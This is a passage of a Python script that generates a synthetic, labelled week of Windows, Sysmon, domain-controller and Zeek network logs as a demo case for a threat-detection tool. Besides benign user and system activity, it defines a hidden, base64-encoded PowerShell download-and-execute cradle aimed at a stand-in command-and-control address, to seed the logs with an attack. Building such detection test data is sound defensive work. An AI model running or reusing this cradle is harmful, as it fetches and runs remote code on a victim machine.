#!/usr/bin/env python3
"""Generate lookout's labelled demo case (``sample_logs/``).

Synthetic, written for the lookout project (MIT OR Apache-2.0). Deterministic: a fixed seed,
the Python 3.11 standard library only, and one named random stream per component so that a
change in one part does not reshuffle the others. Run it from anywhere:

    python3 sample_logs/generate.py

It (re)writes every log file under ``sample_logs/`` plus ``sample_logs/labels.tsv``.
The week is Mon 2026-03-02 .. Fri 2026-03-06, all times UTC.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import random
from datetime import datetime, timedelta, timezone

UTC = timezone.utc
HERE = os.path.dirname(os.path.abspath(__file__))
SEED = 20260302
WEEK_START = datetime(2026, 3, 2, tzinfo=UTC)  # Monday
WEEK_END = datetime(2026, 3, 6, 23, 59, 59, tzinfo=UTC)  # Friday
MON, TUE, WED, THU, FRI = range(5)


def rstream(name: str) -> random.Random:
    """An independent, reproducible random stream for one component."""
    return random.Random(f"lookout-sample-logs/{SEED}/{name}")


def at(day: int, hh: int, mm: int, ss: float = 0.0) -> datetime:
    return WEEK_START + timedelta(days=day, hours=hh, minutes=mm, seconds=ss)


def jitter(rng: random.Random, t: datetime, lo: float, hi: float) -> datetime:
    return t + timedelta(seconds=rng.uniform(lo, hi))


# --------------------------------------------------------------------------------------------
# Environment
# --------------------------------------------------------------------------------------------

DOMAIN = "CORP"
DNS_DOMAIN = "corp.local"
DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"
RID = {"alice": 1104, "bob": 1105, "it_admin": 1106, "svc_backup": 1108,
       "WS01$": 1110, "WS02$": 1111, "FS01$": 1112, "krbtgt": 502}


def sid(account: str) -> str:
    return f"{DOMAIN_SID}-{RID[account]}"


IP = {
    "DC01": "10.0.2.10", "WS01": "10.0.2.21", "WS02": "10.0.2.22", "FS01": "10.0.2.30",
    "BACKUP01": "10.0.2.40", "web01": "10.0.1.10", "admin": "10.0.0.5",
}
ATTACKER = "203.0.113.45"
C2 = "198.51.100.23"

# Benign external destinations (illustrative addresses in large providers' public ranges).
EXT_MS = ["13.107.6.156", "13.107.42.14", "52.96.165.18", "52.113.194.132", "20.190.151.68",
          "40.126.31.73"]
EXT_GOOGLE = ["142.250.185.68", "142.250.186.35", "172.217.16.142", "216.58.212.163"]
EXT_CDN = ["151.101.1.140", "151.101.65.69", "104.18.32.47", "23.55.161.10"]
EXT_WU = ["13.107.4.50", "8.252.47.126", "23.48.201.18"]
DEBIAN_MIRROR = "151.101.194.132"
DNS_FORWARDER = "9.9.9.9"

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
TEAMS = r"C:\Program Files\WindowsApps\MSTeams_25031.805.3440.5290_x64__8wekyb3d8bbwe\ms-teams.exe"
EDGEWV = (r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\133.0.3065.92"
          r"\msedgewebview2.exe")
DEFENDER = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0"


def fake_sha256(image: str) -> str:
    """Synthetic but stable SHA256 per image path (not the hash of any real file)."""
    return hashlib.sha256(("lookout-demo:" + image.lower()).encode()).hexdigest().upper()


def ps_enc(script: str) -> str:
    """PowerShell -EncodedCommand: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/a')"
CRADLE_B64 = ps_enc(CRADLE)
MALICIOUS_PS = f"powershell.exe -nop -w hidden -enc {CRADLE_B64}"

# --------------------------------------------------------------------------------------------
# Zeek conn.log (filled by every story; written at the end)
# --------------------------------------------------------------------------------------------

ZEEK: list[tuple[datetime, list[str]]] = []
_zrng = rstream("zeek-uid")
_B62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def _is_local(ip: str) -> str:
    return "T" if ip.startswith("10.") else "F"


def conn(t: datetime, orig: str, oport: int, resp: str, rport: int, proto: str = "tcp",
         service: str = "-", duration: float | None = None, ob: int | None = None,
         rb: int | None = None, state: str = "SF", history: str | None = None,
         opk: int | None = None, rpk: int | None = None) -> None:
    """One Zeek conn.log row (ts = connection start)."""
    uid = "C" + "".join(_zrng.choice(_B62) for _ in range(17))
    hdr = 20 if proto == "udp" else 40
    if proto == "udp":
        hdr = 28
    if history is None:
        history = {"SF": "ShADadfF", "S0": "S", "REJ": "Sr", "RSTO": "ShADadR",
                   "RSTR": "ShADadr", "SH": "ShAF", "OTH": "CC"}.get(state, "ShADadfF")
        if proto == "udp":
            history = "Dd" if state == "SF" else "D"
    if opk is None:
        opk = 1 if ob in (None, 0) else max(1, (ob // 1400) + 3)
    if rpk is None:
        rpk = 0 if rb in (None, 0) and state in ("S0",) else max(1, ((rb or 0) // 1400) + 2)
        if state == "REJ":
            rpk = 1
    if proto == "udp":
        opk = opk if ob else 1
        rpk = 1 if rb else 0
    oib = (ob or 0) + opk * hdr
    rib = (rb or 0) + rpk * hdr
    row = [
        f"{t.timestamp():.6f}", uid, orig, str(oport), resp, str(rport), proto, service,
        "-" if duration is None else f"{duration:.6f}",
        "-" if ob is None else str(ob), "-" if rb is None else str(rb),
        state, _is_local(orig), _is_local(resp), "0", history,
        str(opk), str(oib), str(rpk), str(rib), "-",
    ]
    ZEEK.append((t, row))


# --------------------------------------------------------------------------------------------
# Windows: Security-Datasets / nxlog flat JSON lines
# --------------------------------------------------------------------------------------------

SEC = ("Security", "Microsoft-Windows-Security-Auditing")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SCM = ("System", "Service Control Manager")
W32TIME = ("System", "Microsoft-Windows-Time-Service")
KERNEL_GENERAL = ("System", "Microsoft-Windows-Kernel-General")
WUCLIENT = ("System", "Microsoft-Windows-WindowsUpdateClient")

SEC_TASK = {4624: "12544", 4625: "12544", 4634: "12545", 4647: "12545", 4672: "12548",
            4697: "12289", 4698: "12804", 4724: "13824", 4738: "13824", 4768: "14339",
            4769: "14337", 4771: "14339", 4776: "14336", 4800: "12551", 4801: "12551"}

MESSAGES = {
    4624: "An account was successfully logged on.",
    4625: "An account failed to log on.",
    4634: "An account was logged off.",
    4647: "User initiated logoff:",
    4672: "Special privileges assigned to new logon.",
    4697: "A service was installed in the system.",
    4698: "A scheduled task was created.",
    4724: "An attempt was made to reset an account's password.",
    4738: "A user account was changed.",
    4768: "A Kerberos authentication ticket (TGT) was requested.",
    4769: "A Kerberos service ticket was requested.",
    4771: "Kerberos pre-authentication failed.",
    4776: "The computer attempted to validate the credentials for an account.",
    4800: "The workstation was locked.",
    4801: "The workstation was unlocked.",
}
SYSMON_TITLE = {1: "Process Create:", 3: "Network connection detected:",
                10: "Process accessed:", 11: "File created:",
                12: "Registry object added or deleted:", 13: "Registry value set:",
                26: "File Delete logged:"}


def wtime(t: datetime) -> str:
    return t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"


class Proc:
    __slots__ = ("guid", "pid", "image", "cmd", "user", "il", "cwd", "logon_id", "logon_guid")

    def __init__(self, guid, pid, image, cmd, user, il, cwd, logon_id="0x3e7", logon_guid=None):
        self.guid, self.pid, self.image, self.cmd = guid, pid, image, cmd
        self.user, self.il, self.cwd = user, il, cwd
        self.logon_id, self.logon_guid = logon_id, logon_guid


class WinHost:
    def __init__(self, name: str, guid_prefix: str, guid_tail: str, sysmon: bool = True):
        self.name = name
        self.fqdn = f"{name}.{DNS_DOMAIN}"
        self.ip = IP[name]
        self.sysmon = sysmon
        self.prefix = guid_prefix
        self.tail = guid_tail
        self.rng = rstream("win-" + name)
        self.ctr = 0x0100
        self.used_pids: set[int] = set()
        self.events: list[tuple[datetime, int, dict]] = []
        boot = datetime(2026, 2, 28, 3, 10, 4, tzinfo=UTC)  # patched and rebooted Saturday
        self.boot = boot
        sysu = "NT AUTHORITY\\SYSTEM"
        self.system = self._standing(boot, 4, "System", "", sysu)
        self.services = self._standing(boot, 692, r"C:\Windows\System32\services.exe",
                                       r"C:\Windows\system32\services.exe", sysu)
        self.lsass = self._standing(boot, 624, r"C:\Windows\system32\lsass.exe",
                                    r"C:\Windows\system32\lsass.exe", sysu)
        self.winlogon = self._standing(boot, 576, r"C:\Windows\System32\winlogon.exe",
                                       "winlogon.exe", sysu)
        self.svc_dcom = self._standing(boot, 860, r"C:\Windows\System32\svchost.exe",
                                       r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", sysu)
        self.svc_sched = self._standing(boot, 1432, r"C:\Windows\System32\svchost.exe",
                                        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                                        sysu)
        self.svc_gp = self._standing(boot, 1380, r"C:\Windows\System32\svchost.exe",
                                     r"C:\Windows\system32\svchost.exe -k netsvcs -p -s gpsvc", sysu)
        self.msmpeng = self._standing(boot, 3316, DEFENDER + r"\MsMpEng.exe",
                                      '"' + DEFENDER + r'\MsMpEng.exe"', sysu)
        self.search = self._standing(boot, 5120, r"C:\Windows\System32\SearchIndexer.exe",
                                     r"C:\Windows\system32\SearchIndexer.exe /Embedding", sysu)

    # -- identifiers -------------------------------------------------------------------------
    def guid(self, t: datetime) -> str:
        secs = int(t.timestamp())
        self.ctr += self.rng.randint(1, 6)
        return "{%s-%04x-%04x-%04x-%s}" % (self.prefix, secs & 0xFFFF, secs >> 16,
                                          self.ctr & 0xFFFF, self.tail)

    def new_pid(self) -> int:
        while True:
            p = self.rng.randrange(1200, 14000, 4)
            if p not in self.used_pids:
                self.used_pids.add(p)
                return p

    def logon_id(self) -> str:
        return hex(self.rng.randrange(0x200000, 0x9FFFFF))

    def _standing(self, t, pid, image, cmd, user) -> Proc:
        self.used_pids.add(pid)
        return Proc(self.guid(t), pid, image, cmd, user, "System", r"C:\Windows\system32" + "\\")

    # -- emit --------------------------------------------------------------------------------
    def emit(self, t: datetime, eid: int, chan: tuple[str, str], fields: dict,
             message: str | None = None, task: str | None = None) -> None:
        channel, provider = chan
        if message is None:
            message = SYSMON_TITLE[eid] if channel == SYSMON[0] else MESSAGES[eid]
        if task is None:
            task = str(eid) if channel == SYSMON[0] else SEC_TASK.get(eid, "0")
        rec = {"SourceName": provider, "Channel": channel, "Hostname": self.fqdn,
               "TimeCreated": wtime(t), "EventID": eid, "Task": task, "Message": message}
        rec.update(fields)
        self.events.append((t, len(self.events), rec))

    def sysmon_emit(self, t: datetime, eid: int, fields: dict) -> None:
        if not self.sysmon:
            return
        delay = timedelta(milliseconds=self.rng.randint(2, 40))
        f = {"RuleName": "-", "UtcTime": wtime(t)}
        f.update(fields)
        self.emit(t + delay, eid, SYSMON, f)

    # -- Sysmon helpers ----------------------------------------------------------------------
    def proc(self, t: datetime, image: str, cmd: str, parent: Proc, user: str | None = None,
             il: str | None = None, cwd: str | None = None, pid: int | None = None,
             meta: tuple[str, str, str, str, str] | None = None) -> Proc:
        """Sysmon 1. meta = (FileVersion, Description, Product, Company, OriginalFileName)."""
        user = user or parent.user
        il = il or parent.il
        cwd = cwd or parent.cwd
        if pid is None:
            pid = self.new_pid()
        else:
            self.used_pids.add(pid)
        p = Proc(self.guid(t), pid, image, cmd, user, il, cwd, parent.logon_id, parent.logon_guid)
        base = image.rsplit("\\", 1)[-1]
        if meta is None:
            meta = ("10.0.22621.4830 (WinBuild.160101.0800)", "-", "-", "-", base)
        fv, desc, prod, comp, orig = meta
        self.sysmon_emit(t, 1, {
            "ProcessGuid": p.guid, "ProcessId": str(pid), "Image": image,
            "FileVersion": fv, "Description": desc, "Product": prod, "Company": comp,
            "OriginalFileName": orig, "CommandLine": cmd, "CurrentDirectory": cwd,
            "User": user, "LogonGuid": p.logon_guid or "{%s-0000-0000-e703-000000000000}" % self.prefix,
            "LogonId": p.logon_id, "TerminalSessionId": "0" if user.startswith("NT AUTHORITY") else "1",
            "IntegrityLevel": il, "Hashes": "SHA256=" + fake_sha256(image),
            "ParentProcessGuid": parent.guid, "ParentProcessId": str(parent.pid),
            "ParentImage": parent.image, "ParentCommandLine": parent.cmd, "ParentUser": parent.user,
        })
        return p

    def netconn(self, t: datetime, p: Proc, dst: str, dport: int, sport: int | None = None,
                proto: str = "tcp", dst_host: str = "-", port_name: str = "-") -> int:
        """Sysmon 3 (outbound)."""
        if sport is None:
            sport = self.rng.randint(49700, 65000)
        self.sysmon_emit(t, 3, {
            "ProcessGuid": p.guid, "ProcessId": str(p.pid), "Image": p.image, "User": p.user,
            "Protocol": proto, "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": self.ip,
            "SourceHostname": self.fqdn, "SourcePort": str(sport), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": dst, "DestinationHostname": dst_host,
            "DestinationPort": str(dport), "DestinationPortName": port_name,
        })
        return sport

    def filecreate(self, t: datetime, p: Proc, path: str) -> None:
        self.sysmon_emit(t, 11, {"ProcessGuid": p.guid, "ProcessId": str(p.pid), "Image": p.image,
                                 "TargetFilename": path, "CreationUtcTime": wtime(t),
                                 "User": p.user})

    def regset(self, t: datetime, p: Proc, key: str, details: str) -> None:
        self.sysmon_emit(t, 13, {"EventType": "SetValue", "ProcessGuid": p.guid,
                                 "ProcessId": str(p.pid), "Image": p.image, "TargetObject": key,
                                 "Details": details, "User": p.user})

    # -- Security helpers --------------------------------------------------------------------
    def logon(self, t: datetime, user: str, ltype: int, src_ip: str = "-", src_port: str = "0",
              workstation: str = "-", package: str = "Negotiate", lproc: str = "User32 ",
              logon_id: str | None = None, domain: str = DOMAIN, elevated: bool = False,
              proc_name: str = r"C:\Windows\System32\svchost.exe", proc_id: str = "0x4b8",
              lm: str = "-", key_len: str = "0") -> str:
        lid = logon_id or self.logon_id()
        local = ltype in (2, 7, 11)
        self.emit(t, 4624, SEC, {
            "SubjectUserSid": "S-1-5-18" if local else "S-1-0-0",
            "SubjectUserName": f"{self.name}$" if local else "-",
            "SubjectDomainName": DOMAIN if local else "-",
            "SubjectLogonId": "0x3e7" if local else "0x0",
            "TargetUserSid": sid(user) if user in RID else "S-1-5-18",
            "TargetUserName": user, "TargetDomainName": domain, "TargetLogonId": lid,
            "LogonType": str(ltype), "LogonProcessName": lproc,
            "AuthenticationPackageName": package, "WorkstationName": workstation,
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}" if package == "NTLM" else
            "{%08x-%04x-%04x-%04x-%012x}" % tuple(self.rng.getrandbits(b) for b in (32, 16, 16, 16, 48)),
            "TransmittedServices": "-", "LmPackageName": lm, "KeyLength": key_len,
            "ProcessId": proc_id if local or ltype == 10 else "0x0",
            "ProcessName": proc_name if local or ltype == 10 else "-",
            "IpAddress": src_ip, "IpPort": src_port, "ImpersonationLevel": "%%1833",
            "ElevatedToken": "%%1842" if elevated else "%%1843",
        })
        return lid

    def logoff(self, t: datetime, user: str, ltype: int, lid: str) -> None:
        self.emit(t, 4634, SEC, {"TargetUserSid": sid(user) if user in RID else "S-1-5-18",
                                 "TargetUserName": user, "TargetDomainName": DOMAIN,
                                 "TargetLogonId": lid, "LogonType": str(ltype)})

    def special_privs(self, t: datetime, user: str, lid: str) -> None:
        self.emit(t, 4672, SEC, {
            "SubjectUserSid": sid(user), "SubjectUserName": user, "SubjectDomainName": DOMAIN,
            "SubjectLogonId": lid,
            "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege"
                             "\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege"
                             "\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege"
                             "\r\n\t\t\tSeImpersonatePrivilege",
        })

    def write(self, path: str) -> int:
        self.events.sort(key=lambda e: (e[0], e[1]))
        # Sort key is the real time; TimeCreated may trail UtcTime by a few ms for Sysmon, so
        # re-sort by the rendered TimeCreated to keep every file monotonic.
        self.events.sort(key=lambda e: (e[2]["TimeCreated"], e[1]))
        with open(path, "w", encoding="utf-8", newline="\n") as fh:
            for _, _, rec in self.events:
                fh.write(json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n")
        return len(self.events)


WS01 = WinHost("WS01", "8c4e5a1d", "000000000a00")
WS02 = WinHost("WS02", "8c4e6b37", "000000000b00")
FS01 = WinHost("FS01", "8c4e7c52", "000000000c00")
DC01 = WinHost("DC01", "8c4e2f10", "000000000d00", sysmon=False)
WINHOSTS = [WS01, WS02, FS01, DC01]
USER_OF = {"WS01": "alice", "WS02": "bob"}


def user_sid_hku(user: str) -> str:
    return "HKU\\" + sid(user)


# --------------------------------------------------------------------------------------------
# Domain controller helpers (Kerberos / NTLM validation)
# --------------------------------------------------------------------------------------------

def dc_tgt(t: datetime, user: str, src_ip: str, rng: random.Random) -> None:
    DC01.emit(t, 4768, SEC, {
        "TargetUserName": user, "TargetDomainName": DNS_DOMAIN, "TargetSid": sid(user),
        "ServiceName": "krbtgt", "ServiceSid": sid("krbtgt"), "TicketOptions": "0x40810010",
        "Status": "0x0", "TicketEncryptionType": "0x12", "PreAuthType": "2",
        "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
        "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": "",
    })
    conn(t - timedelta(milliseconds=4), src_ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
         "krb_tcp", rng.uniform(0.002, 0.02), rng.randint(1400, 1700), rng.randint(1500, 1800))


def dc_tgs(t: datetime, user: str, service: str, src_ip: str, rng: random.Random) -> None:
    DC01.emit(t, 4769, SEC, {
        "TargetUserName": f"{user}@{DNS_DOMAIN.upper()}", "TargetDomainName": DNS_DOMAIN.upper(),
        "ServiceName": service, "ServiceSid": sid(service) if service in RID else "S-1-5-21-0",
        "TicketOptions": "0x40810000", "TicketEncryptionType": "0x12",
        "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
        "Status": "0x0", "LogonGuid": "{%08x-%04x-%04x-%04x-%012x}" % tuple(
            rng.getrandbits(b) for b in (32, 16, 16, 16, 48)), "TransmittedServices": "-",
    })


def dc_ntlm(t: datetime, user: str, workstation: str, status: str = "0x0") -> None:
    DC01.emit(t, 4776, SEC, {
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": user,
        "Workstation": workstation, "Status": status,
    })


def dc_preauth_failed(t: datetime, user: str, src_ip: str, code: str, rng: random.Random,
                      ) -> None:
    # The real EventData name of the failure code is `Status` (Message: "Failure Code");
    # `FailureCode` repeats it under the name the Message uses, for parsers keyed on that.
    DC01.emit(t, 4771, SEC, {
        "TargetUserName": user, "TargetSid": sid(user),
        "ServiceName": f"krbtgt/{DNS_DOMAIN.upper()}", "TicketOptions": "0x40810010",
        "Status": code, "FailureCode": code, "PreAuthType": "2",
        "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
        "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": "",
    })


# --------------------------------------------------------------------------------------------
# Windows benign background
# --------------------------------------------------------------------------------------------

MS_META = ("10.0.22621.4830 (WinBuild.160101.0800)", "{desc}",
           "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", "{orig}")


def msmeta(desc: str, orig: str) -> tuple[str, str, str, str, str]:
    return (MS_META[0], desc, MS_META[2], MS_META[3], orig)


OFFICE_META = {
    "WINWORD.EXE": ("16.0.18429.20158", "Microsoft Word", "Microsoft Office", "Microsoft Corporation", "WinWord.exe"),
    "EXCEL.EXE": ("16.0.18429.20158", "Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "Excel.exe"),
    "OUTLOOK.EXE": ("16.0.18429.20158", "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"),
}
CHROME_META = ("133.0.6943.142", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe")


class Desk:
    """One interactive day of a user on a workstation: tracks the processes of the session."""

    def __init__(self, host: WinHost, user: str, rng: random.Random):
        self.h, self.user, self.rng = host, user, rng
        self.duser = f"{DOMAIN}\\{user}"
        self.home = f"C:\\Users\\{user}"
        self.explorer: Proc | None = None
        self.outlook: Proc | None = None
        self.chrome: Proc | None = None
        self.lid = ""
        self.logon_guid = ""

    def start(self, t: datetime, ltype: int = 2) -> datetime:
        h, rng, u = self.h, self.rng, self.user
        self.lid = h.logon(t, u, ltype, src_ip="127.0.0.1", workstation=h.name,
                           package="Negotiate" if ltype != 11 else "Negotiate",
                           lproc="User32 ")
        self.logon_guid = "{%s-%04x-%04x-%s-000000000000}" % (
            h.prefix, int(t.timestamp()) & 0xFFFF, int(t.timestamp()) >> 16, self.lid[2:6])
        base = Proc(h.winlogon.guid, h.winlogon.pid, h.winlogon.image, h.winlogon.cmd,
                    h.winlogon.user, "System", r"C:\Windows\system32" + "\\", self.lid,
                    self.logon_guid)
        t += timedelta(seconds=rng.uniform(1.5, 3))
        userinit = h.proc(t, r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe",
                          base, user=self.duser, il="Medium",
                          meta=msmeta("Userinit Logon Application", "USERINIT.EXE"))
        t += timedelta(seconds=rng.uniform(0.3, 1.0))
        self.explorer = h.proc(t, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", userinit,
                               cwd=r"C:\Windows\system32" + "\\",
                               meta=msmeta("Windows Explorer", "EXPLORER.EXE"))
        # GPO logon script (benign PowerShell with -ExecutionPolicy Bypass)
        t += timedelta(seconds=rng.uniform(2, 5))
        gps = h.proc(t, r"C:\Windows\System32\gpscript.exe", "gpscript.exe /Logon", h.svc_gp,
                     user=self.duser, il="Medium", meta=msmeta("Script for Group Policy", "GPSCRIPT.EXE"))
        gps.logon_id, gps.logon_guid = self.lid, self.logon_guid
        t += timedelta(seconds=rng.uniform(0.5, 1.5))
        h.proc(t, PS, f"{PS} -NoProfile -ExecutionPolicy Bypass -File "
                      f"\\\\{DNS_DOMAIN}\\SYSVOL\\{DNS_DOMAIN}\\scripts\\map-drives.ps1",
               gps, meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
        conn(t + timedelta(seconds=0.4), h.ip, rng.randint(49700, 65000), IP["DC01"], 445, "tcp",
             "smb", rng.uniform(0.05, 0.3), rng.randint(2500, 4500), rng.randint(5000, 9000))
        # Startup apps
        t += timedelta(seconds=rng.uniform(4, 9))
        h.proc(t, r"C:\Windows\System32\SecurityHealthSystray.exe",
               r'"C:\Windows\System32\SecurityHealthSystray.exe" ', self.explorer,
               meta=msmeta("Windows Security notification icon", "SecHealthUI.exe"))
        t += timedelta(seconds=rng.uniform(0.5, 2))
        od = f"{self.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
        odp = h.proc(t, od, f'"{od}" /background', self.explorer,
                     meta=("25.020.0202.0001", "Microsoft OneDrive", "Microsoft OneDrive",
                           "Microsoft Corporation", "OneDrive.exe"))
        # OneDrive refreshes its own Run key: a benign Run-key write
        h.regset(t + timedelta(seconds=1.2), odp,
                 f"{user_sid_hku(u)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
                 f'"{od}" /background')
        self.https(t + timedelta(seconds=2), rng.choice(EXT_MS), odp)
        t += timedelta(seconds=rng.uniform(2, 6))
        teams = h.proc(t, TEAMS, f'"{TEAMS}" msteams:system-initiated', self.explorer,
                       meta=("25031.805.3440.5290", "Microsoft Teams", "Microsoft Teams",
                             "Microsoft Corporation", "ms-teams.exe"))
        t += timedelta(seconds=rng.uniform(1, 3))
        h.proc(t, EDGEWV, f'"{EDGEWV}" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe '
                          f'--user-data-dir="{self.home}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe'
                          f'\\LocalCache\\Microsoft\\MSTeams\\EBWebView" --noerrdialogs', teams,
               meta=("133.0.3065.92", "Microsoft Edge WebView2", "Microsoft Edge WebView2",
                     "Microsoft Corporation", "msedgewebview2.exe"))
        self.https(t + timedelta(seconds=1), rng.choice(EXT_MS), teams)
        t += timedelta(seconds=rng.uniform(20, 90))
        self.outlook = h.proc(t, f"{OFFICE}\\OUTLOOK.EXE", f'"{OFFICE}\\OUTLOOK.EXE" ', self.explorer,
                              meta=OFFICE_META["OUTLOOK.EXE"])
        self.https(t + timedelta(seconds=2), "52.96.165.18", self.outlook)
        t += timedelta(seconds=rng.uniform(30, 240))
        self.chrome = h.proc(t, CHROME, f'"{CHROME}" ', self.explorer, meta=CHROME_META)
        for i in range(rng.randint(2, 3)):
            t += timedelta(seconds=rng.uniform(0.2, 0.8))
            typ = ["gpu-process", "utility --utility-sub-type=network.mojom.NetworkService",
                   "renderer"][i]
            h.proc(t, CHROME, f'"{CHROME}" --type={typ} --lang=en-US --mojo-platform-channel-handle='
                              f'{rng.randint(1800, 4800)} /prefetch:{i + 1}', self.chrome,
                   meta=CHROME_META)
        self.https(t + timedelta(seconds=1), rng.choice(EXT_GOOGLE), self.chrome)
        return t

    def https(self, t: datetime, dst: str, p: Proc, log_sysmon: bool = True) -> None:
        h, rng = self.h, self.rng
        # a DNS lookup first, then the TLS connection
        conn(t - timedelta(milliseconds=rng.randint(8, 40)), h.ip, rng.randint(49700, 65000),
             IP["DC01"], 53, "udp", "dns", rng.uniform(0.001, 0.03), rng.randint(30, 60),
             rng.randint(60, 220))
        sport = h.netconn(t, p, dst, 443, port_name="https") if log_sysmon else rng.randint(49700, 65000)
        conn(t, h.ip, sport, dst, 443, "tcp", "ssl", rng.uniform(0.3, 180), rng.randint(900, 40000),
             rng.randint(3000, 900000))

    def activity(self, t0: datetime, t1: datetime, n: int) -> None:
        """n ordinary actions between t0 and t1."""
        h, rng, u = self.h, self.rng, self.user
        docs = {"alice": ["Finance\\Q1-forecast.xlsx", "Finance\\supplier-invoices-feb.xlsx",
                          "Projects\\board-summary.docx", "Projects\\vendor-contract-v3.docx"],
                "bob": ["Sales\\pipeline-march.xlsx", "Sales\\customer-visit-notes.docx",
                        "Ops\\shipping-rates-2026.xlsx", "Ops\\warehouse-checklist.docx"]}[u]
        times = sorted(t0 + timedelta(seconds=rng.uniform(0, (t1 - t0).total_seconds()))
                       for _ in range(n))
        for t in times:
            k = rng.random()
            if k < 0.22:
                h.proc(t, CHROME, f'"{CHROME}" --type=renderer --lang=en-US --renderer-client-id='
                                  f'{rng.randint(8, 90)} --mojo-platform-channel-handle='
                                  f'{rng.randint(1800, 6000)} /prefetch:1', self.chrome, meta=CHROME_META)
                self.https(t + timedelta(seconds=0.5), rng.choice(EXT_GOOGLE + EXT_CDN), self.chrome,
                           log_sysmon=rng.random() < 0.5)
            elif k < 0.40:
                doc = rng.choice(docs)
                exe = "EXCEL.EXE" if doc.endswith("xlsx") else "WINWORD.EXE"
                path = f"{self.home}\\OneDrive - Corp\\{doc}"
                extra = ' /n' if exe == "WINWORD.EXE" else ''
                h.proc(t, f"{OFFICE}\\{exe}", f'"{OFFICE}\\{exe}"{extra} "{path}"', self.explorer,
                       meta=OFFICE_META[exe])
            elif k < 0.50:
                h.proc(t, r"C:\Windows\System32\RuntimeBroker.exe",
                       r"C:\Windows\System32\RuntimeBroker.exe -Embedding", h.svc_dcom,
                       user=self.duser, il="Medium", meta=msmeta("Runtime Broker", "RuntimeBroker.exe"))
            elif k < 0.58:
                h.proc(t, r"C:\Windows\System32\SearchProtocolHost.exe",
                       r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe'
                       f'{rng.randint(2, 40)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{rng.randint(2, 40)} 1 '
                       r'-2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE '
                       r'6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data'
                       r'\Temp\usgthrsvc" "DownLevelDaemon" ', h.search,
                       meta=msmeta("Microsoft Windows Search Protocol Host", "SearchProtocolHost.exe"))
            elif k < 0.66:
                h.proc(t, r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", h.svc_sched,
                       user=self.duser, il="Medium", meta=msmeta("Host Process for Windows Tasks",
                                                                 "taskhostw.exe"))
            elif k < 0.72:
                h.proc(t, r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                       r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", h.svc_dcom,
                       user="NT AUTHORITY\\NETWORK SERVICE", il="System",
                       meta=msmeta("WMI Provider Host", "Wmiprvse.exe"))
            elif k < 0.78:
                h.proc(t, DEFENDER + r"\MpCmdRun.exe",
                       f'"{DEFENDER}\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
                       h.svc_sched, user="NT AUTHORITY\\SYSTEM", il="System",
                       meta=("4.18.25010.11", "Microsoft Malware Protection Command Line Utility",
                             "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation",
                             "MpCmdRun.exe"))
            elif k < 0.84:
                h.proc(t, r"C:\Windows\System32\notepad.exe",
                       f'"C:\\Windows\\system32\\NOTEPAD.EXE" {self.home}\\Desktop\\todo.txt',
                       self.explorer, meta=msmeta("Notepad", "NOTEPAD.EXE"))
            elif k < 0.90:
                up = r"C:\Program Files (x86)\Google\GoogleUpdater\133.0.6876.0\updater.exe"
                h.proc(t, up, f'"{up}" --wake --system', h.svc_sched, user="NT AUTHORITY\\SYSTEM",
                       il="System", meta=("133.0.6876.0", "GoogleUpdater", "GoogleUpdater",
                                          "Google LLC", "updater.exe"))
                self.https(t + timedelta(seconds=1), rng.choice(EXT_GOOGLE), self.chrome,
                           log_sysmon=False)
            elif k < 0.95:
                self.https(t, rng.choice(EXT_MS), self.outlook)
            else:
